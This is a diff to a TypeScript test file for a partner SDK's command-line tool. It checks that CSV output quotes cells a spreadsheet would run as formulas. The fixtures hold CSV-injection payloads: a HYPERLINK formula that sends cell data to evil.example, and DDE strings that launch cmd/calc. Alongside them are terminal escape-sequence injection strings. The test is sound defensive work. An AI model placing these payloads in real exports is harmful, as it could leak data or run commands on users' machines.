@@ -14,6 +14,18 @@ import { cli, jsonLines } from './run-cli';
 const EVIL_NAME = 'Evil\u001b]0;pwned\u0007\u001b[31mRED\r\nsecond line\u009b2J';
 const EVIL_MESSAGE = 'Bad \u001b[2Jinput\u001b]0;pwned\u0007\rspoofed';
 const TRICKY_NAME = 'a, "quoted"\nname';
+/** Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), beside numbers that are data. */
+const FORMULAS = {
+  hash: 'prd_f',
+  name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+  type: "+cmd|' /C calc'!A0",
+  status: '-2+3',
+  support_email: "@SUM(1+1)*cmd|' /C calc'!A0",
+  tab: '\t=1+1',
+  cr: '\r=1+1',
+  refund_deadline: -7,
+  text_number: '-150',
+};
 
 const page = (data: unknown[]) => ({
   data,
@@ -43,6 +55,8 @@ const ANSWERS: Record<string, (res: ServerResponse) => void> = {
   // Never answers: the request waits until the client gives up (the stub closes it at the end).
   silent: () => {},
   tricky: (res) => json(res, 200, page([product(TRICKY_NAME), product('plain')])),
+  formulas: (res) => json(res, 200, page([FORMULAS])),
+  formulaone: (res) => json(res, 200, { data: FORMULAS }),
 };
 
 let stub: StubServer;
@@ -184,5 +198,20 @@ describe('partner-sdk against an odd service', { timeout: 60_000 }, () => {
     );
     const piped = await run('tricky', ['products', 'list']);
     expect(jsonLines(piped.stdout).map((row) => row.name)).toEqual([TRICKY_NAME, 'plain']);
+  });
+
+  it("CSV never hands a spreadsheet a formula: a service's cell starting with = + - @, a tab or a CR is quoted behind a ', numbers kept", async () => {
+    const expected =
+      'hash,name,type,status,support_email,tab,cr,refund_deadline,text_number\n' +
+      `prd_f,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+cmd|' /C calc'!A0","'-2+3","'@SUM(1+1)*cmd|' /C calc'!A0","'\t=1+1","'\r=1+1",-7,-150\n`;
+    const list = await run('formulas', ['--format', 'csv', 'products', 'list']);
+    expect(list.code).toBe(0);
+    expect(list.stdout).toBe(expected);
+    const one = await run('formulaone', ['--format', 'csv', 'products', 'get', 'prd_f']);
+    expect(one.code).toBe(0);
+    expect(one.stdout).toBe(expected);
+    // JSON is data for programs, not a spreadsheet: the text stays as the service sent it.
+    const piped = await run('formulas', ['products', 'list']);
+    expect(jsonLines(piped.stdout)[0]).toEqual(FORMULAS);
   });
 });
